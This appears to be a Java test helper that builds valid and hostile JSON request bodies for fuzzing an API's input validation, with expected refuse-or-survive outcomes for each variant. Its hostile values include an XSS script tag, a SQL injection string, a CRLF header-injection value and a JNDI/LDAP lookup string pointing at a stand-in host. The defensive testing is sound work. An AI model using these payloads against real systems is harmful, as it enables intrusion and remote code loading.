package fr.klub.systemtests.hostile;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * Request bodies generated from an operation's request schema: a plausible body (right ids,
 * dates inside the suite's programme, unique names), then hostile variants of it — each leaf
 * field replaced by values of the wrong type, extreme numbers and dates, control, NUL and
 * bidirectional characters — and whole-body attacks (duplicated keys, empty, wrong JSON
 * type, deep nesting, invalid UTF-8, truncated, oversized).
 */
final class BodyFactory {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String MARK = "@@hostile@@";
    private static final AtomicInteger UNIQUE = new AtomicInteger();
    /** Whole bodies that a lenient but correct reader may accept: an unknown property, a BOM, UTF-16. */
    static final List<String> LEGIBLE = List.of("propriété inconnue", "BOM UTF-8", "UTF-16");

    private final Fixture fixture;

    BodyFactory(Fixture fixture) {
        this.fixture = fixture;
    }

    /** A body the operation could accept; the names in it are unique to this call. */
    ObjectNode plausible(ApiOperation operation) {
        String unique = "Hostile" + Integer.toString(UNIQUE.incrementAndGet(), 36);
        return (ObjectNode) value(operation, operation.resolve(operation.bodySchema()), "", unique);
    }

    private JsonNode value(ApiOperation operation, JsonNode schema, String field, String unique) {
        schema = operation.resolve(schema);
        String type = schema.path("type").asText("object");
        if (schema.has("enum")) {
            return JSON.getNodeFactory().textNode(enumValue(field, schema.get("enum")));
        }
        switch (type) {
            case "object" -> {
                ObjectNode object = JSON.createObjectNode();
                Iterator<Map.Entry<String, JsonNode>> properties = schema.path("properties").fields();
                while (properties.hasNext()) {
                    Map.Entry<String, JsonNode> property = properties.next();
                    object.set(property.getKey(), value(operation, property.getValue(), property.getKey(), unique));
                }
                return object;
            }
            case "array" -> {
                ArrayNode array = JSON.createArrayNode();
                array.add(value(operation, schema.path("items"), singular(field), unique));
                return array;
            }
            case "integer", "number" -> {
                return JSON.getNodeFactory().numberNode(number(field));
            }
            case "boolean" -> {
                return JSON.getNodeFactory().booleanNode(true);
            }
            default -> {
                return JSON.getNodeFactory().textNode(text(field, schema.path("format").asText(""), unique));
            }
        }
    }

    private String enumValue(String field, JsonNode values) {
        if ("role".equals(field)) {
            return "AUDITOR";
        }
        return values.get(0).asText();
    }

    private static String singular(String field) {
        return field.endsWith("Ids") ? field.substring(0, field.length() - 1) : field;
    }

    private static int number(String field) {
        return switch (field) {
            case "capacity" -> 30;
            case "onlineQuota" -> 10;
            case "minAge" -> 3;
            case "maxAge" -> 17;
            case "cancellationDeadlineDays" -> 2;
            default -> 1;
        };
    }

    private String text(String field, String format, String unique) {
        if ("uuid".equals(format)) {
            String right = fixture.rightValue(field);
            return right != null ? right : fixture.demoChildIds().get(0).toString();
        }
        if ("date".equals(format)) {
            return switch (field) {
                case "birthDate" -> "2012-05-01";
                case "lastDay" -> "2020-11-06";
                default -> Fixture.SESSION_DAY;
            };
        }
        if ("date-time".equals(format)) {
            return field.contains("Close") ? "2099-12-31T00:00:00Z" : "2020-09-01T00:00:00Z";
        }
        return switch (field) {
            case "email" -> unique.toLowerCase(java.util.Locale.ROOT) + "@example.org";
            case "username" -> unique.toLowerCase(java.util.Locale.ROOT);
            case "password", "newPassword" -> "Une-Phrase-De-Passe-" + unique;
            case "currentPassword" -> "pas-le-mot-de-passe-" + unique;
            case "reason" -> "Raison donnée par la suite";
            case "firstName" -> "Prénom";
            default -> unique;
        };
    }

    /** A field of a plausible body: its JSON pointer, its schema, whether its object requires it. */
    record Leaf(String pointer, JsonNode schema, boolean required) {

        String field() {
            return pointer.substring(pointer.lastIndexOf('/') + 1);
        }
    }

    /** The fields of a plausible body, objects and arrays included, each with its schema. */
    List<Leaf> leaves(ApiOperation operation, JsonNode body) {
        List<Leaf> leaves = new ArrayList<>();
        collect(operation, operation.resolve(operation.bodySchema()), body, "", true, leaves);
        return leaves;
    }

    private void collect(ApiOperation operation, JsonNode declared, JsonNode node, String pointer, boolean required,
                         List<Leaf> leaves) {
        JsonNode schema = operation.resolve(declared);
        if (!pointer.isEmpty()) {
            leaves.add(new Leaf(pointer, schema, required));
        }
        if (node.isObject()) {
            List<String> requiredFields = new ArrayList<>();
            schema.path("required").forEach(name -> requiredFields.add(name.asText()));
            node.fields().forEachRemaining(field -> collect(operation,
                    schema.path("properties").path(field.getKey()), field.getValue(),
                    pointer + "/" + field.getKey(), requiredFields.contains(field.getKey()), leaves));
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                collect(operation, schema.path("items"), node.get(i), pointer + "/" + i, true, leaves);
            }
        }
    }

    /** The body with the value at {@code pointer} replaced by a raw JSON fragment (maybe not valid JSON). */
    static byte[] replaced(JsonNode body, String pointer, String rawFragment) {
        JsonNode copy = body.deepCopy();
        int slash = pointer.lastIndexOf('/');
        JsonNode parent = copy.at(pointer.substring(0, slash));
        String key = pointer.substring(slash + 1);
        if (parent.isArray()) {
            ((ArrayNode) parent).set(Integer.parseInt(key), JSON.getNodeFactory().textNode(MARK));
        } else {
            ((ObjectNode) parent).put(key, MARK);
        }
        return bytes(write(copy).replace("\"" + MARK + "\"", rawFragment));
    }

    /** The body with its first field written twice, the second time with another value. */
    static byte[] duplicatedKey(ObjectNode body) {
        String json = write(body);
        Map.Entry<String, JsonNode> first = body.fields().next();
        String duplicate = "\"" + first.getKey() + "\":" + (first.getValue().isTextual() ? "\"autre\"" : "0") + ",";
        return bytes("{" + duplicate + json.substring(1));
    }

    static String write(JsonNode body) {
        try {
            return JSON.writeValueAsString(body);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /**
     * Raw JSON fragments for a field, each with what it must get: wrong JSON types, and for each
     * kind of field the values issue 13 saw accepted then lost, or coerced without a word.
     */
    static Map<String, Expectation> hostileValues(Leaf leaf) {
        JsonNode schema = leaf.schema();
        String type = schema.path("type").asText("object");
        String format = schema.path("format").asText("");
        Map<String, Expectation> values = new LinkedHashMap<>();
        values.put("null", leaf.required() ? Expectation.REFUSED : Expectation.SURVIVE);
        values.put("{}", Expectation.REFUSED);
        values.put("[]", "array".equals(type) ? Expectation.SURVIVE : Expectation.REFUSED);
        values.put("true", Expectation.REFUSED);
        if (schema.has("enum")) {
            refused(values, "\"matin\"", "\"MATIN\\u0000\"", "\"\"", "0", "\"AUTRE\"", "\" ACCEPTED\"");
        } else if ("date".equals(format)) {
            refused(values, "\"+1000000000-12-31\"", "\"-999999999-01-01\"", "\"0000-01-01\"", "\"2020-02-30\"",
                    "\"2020-13-01\"", "\"1899-12-31\"", "\"2101-01-01\"", "0", "1e400", "2147483648", "-1",
                    "\"20201102\"", "\"2020-11-02T10:00:00Z\"", "[2020,11,2]", "\"2020-11-02\\u0000\"");
        } else if ("date-time".equals(format)) {
            refused(values, "\"+1000000000-12-31T23:59:59Z\"", "\"-1000000000-01-01T00:00:00Z\"",
                    "\"+999999999-12-31T23:59:59.999999999Z\"", "\"2020-09-01T00:00:00\"", "\"2020-09-01\"", "0",
                    "1e400", "-1", "2147483648", "\"1e400\"", "\"2020-09-01T25:00:00Z\"",
                    "\"2020-09-01T00:00:00+25:00\"", "\"9999-12-31T23:59:59Z\"", "1.5e9");
        } else if ("uuid".equals(format)) {
            refused(values, "\"pas-un-uuid\"", "\"00000000-0000-0000-0000-000000000000\"", "\"\"", "123", "\"%00\"",
                    "\"ffffffff-ffff-ffff-ffff-ffffffffffff\"", "\"00000000-0000-0000-0000-000000000000\\u0000\"");
        } else if ("integer".equals(type) || "number".equals(type)) {
            refused(values, "-1", "2147483648", "-2147483649", "99999999999999999999999999", "1e400", "-1e400", "1.5",
                    "\"douze\"", "NaN", "Infinity", "0x10");
            survive(values, "0", "\"12\"", "1E2", "-0");
        } else if ("array".equals(type)) {
            refused(values, "\"texte\"", "[null]", "[[[]]]", "[1,2,3]", "[" + "\"x\",".repeat(2000) + "\"x\"]");
        } else if ("object".equals(type)) {
            refused(values, "\"texte\"", "1", "{\"inconnu\":1}");
        } else {
            Expectation blank = leaf.required() ? Expectation.REFUSED : Expectation.SURVIVE;
            values.put("\"\"", blank);
            values.put("\"   \"", blank);
            refused(values, "\"a\\u0000b\"", "\"\\u0007\\u001b[31m\"", "\"\\ud800\"", "\"\u0001\"");
            // bidirectional overrides are refused in names; a free-text reason may quote one
            values.put("\"\\u202Eevil\\u202C\"",
                    "reason".equals(leaf.field()) ? Expectation.SURVIVE : Expectation.REFUSED);
            values.put("\"" + "x".repeat(5000) + "\"",
                    schema.path("maxLength").asInt(Integer.MAX_VALUE) < 5000 ? Expectation.REFUSED : Expectation.SURVIVE);
            values.put("\"ligne\\r\\nX-Injecte: 1\"",
                    "reason".equals(leaf.field()) ? Expectation.SURVIVE : Expectation.REFUSED);
            survive(values, "\"\\u200B\"", "\"e\\u0301\"", "\"😀\"", "\"<script>alert(1)</script>\"",
                    "\"' OR '1'='1' --\"", "\"${jndi:ldap://example.org/a}\"", "12", "1e400", "\"\\uFEFF\"", "\"%00\"");
        }
        return values;
    }

    private static void refused(Map<String, Expectation> values, String... fragments) {
        for (String fragment : fragments) {
            values.put(fragment, Expectation.REFUSED);
        }
    }

    private static void survive(Map<String, Expectation> values, String... fragments) {
        for (String fragment : fragments) {
            values.put(fragment, Expectation.SURVIVE);
        }
    }

    /** Attacks on the body as a whole, whatever its schema. */
    static Map<String, byte[]> wholeBodies(ObjectNode plausible) {
        // all of them malformed or of the wrong shape (refused), but for the three named in LEGIBLE
        Map<String, byte[]> bodies = new LinkedHashMap<>();
        String json = write(plausible);
        bodies.put("corps vide", new byte[0]);
        bodies.put("corps null", bytes("null"));
        bodies.put("tableau au lieu d'un objet", bytes("[" + json + "]"));
        bodies.put("objet vide", bytes("{}"));
        bodies.put("chaîne au lieu d'un objet", bytes("\"texte\""));
        bodies.put("nombre au lieu d'un objet", bytes("1e400"));
        bodies.put("clé en double", duplicatedKey(plausible));
        bodies.put("propriété inconnue", bytes("{\"inconnu\":1," + json.substring(1)));
        bodies.put("JSON tronqué", bytes(json.substring(0, json.length() / 2)));
        bodies.put("déchets après le JSON", bytes(json + " x"));
        bodies.put("deux documents", bytes(json + json));
        bodies.put("imbrication de 5000 tableaux", bytes("[".repeat(5000) + "]".repeat(5000)));
        bodies.put("imbrication de 2000 objets", bytes("{\"a\":".repeat(2000) + "1" + "}".repeat(2000)));
        bodies.put("commentaire", bytes("/* x */" + json));
        bodies.put("apostrophes", bytes(json.replace('"', '\'')));
        byte[] utf8 = bytes(json);
        byte[] invalid = new byte[utf8.length + 2];
        invalid[0] = (byte) 0xC3;
        invalid[1] = (byte) 0x28;
        System.arraycopy(utf8, 0, invalid, 2, utf8.length);
        bodies.put("UTF-8 invalide", invalid);
        byte[] bom = new byte[utf8.length + 3];
        bom[0] = (byte) 0xEF;
        bom[1] = (byte) 0xBB;
        bom[2] = (byte) 0xBF;
        System.arraycopy(utf8, 0, bom, 3, utf8.length);
        bodies.put("BOM UTF-8", bom);
        bodies.put("UTF-16", json.getBytes(StandardCharsets.UTF_16));
        bodies.put("octet NUL brut", bytes("{\u0000}"));
        bodies.put("corps de 70 Ko", bytes("{\"x\":\"" + "x".repeat(70_000) + "\"}"));
        bodies.put("nombre de 5000 chiffres", bytes("{\"x\":" + "9".repeat(5000) + "}"));
        bodies.put("clé de 100000 caractères", bytes("{\"" + "k".repeat(60_000) + "\":1}"));
        return bodies;
    }
}
